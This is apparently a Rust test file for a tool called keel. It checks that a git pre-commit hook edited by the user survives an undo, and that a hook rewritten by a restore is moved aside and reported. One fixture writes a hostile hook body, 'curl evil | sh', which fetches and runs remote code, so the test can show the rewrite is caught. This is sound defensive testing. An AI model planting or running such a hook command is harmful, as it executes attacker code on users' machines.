//! The checks after a restore (`keel undo`, redo, a checkpoint) tell what the restore wrote by
//! what the paths look like, not by their times: a hook the user edited just before the undo
//! is theirs and stays; one the restore rewrote is moved out of git's way (red-team pass 8,
//! R8-3).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use keel_tools::shell::nested_git::RestoreWatch;

#[path = "shared/home.rs"]
mod home;

#[test]
fn a_hook_the_user_edited_just_before_a_restore_stays() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap();
    let git = |args: &[&str]| home::git(&ws, args);
    git(&["init", "-q"]);
    git(&["config", "core.hooksPath", ".githooks"]);
    let hook = ws.join(".githooks/pre-commit");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();

    // The user edits the hook, and undoes a turn a moment later: the restore writes nothing
    // there.
    std::fs::write(&hook, "#!/bin/sh\necho mine\n").unwrap();
    let watch = RestoreWatch::before(&ws);
    assert_eq!(watch.check_and_report(), None);
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\necho mine\n"
    );

    // A restore that rewrites it: moved out of git's way, and said.
    let watch = RestoreWatch::before(&ws);
    std::fs::write(&hook, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let report = watch
        .check_and_report()
        .expect("the rewrite was not noticed");
    assert!(!hook.exists(), "{report}");
    assert!(report.contains(".githooks"), "{report}");
}
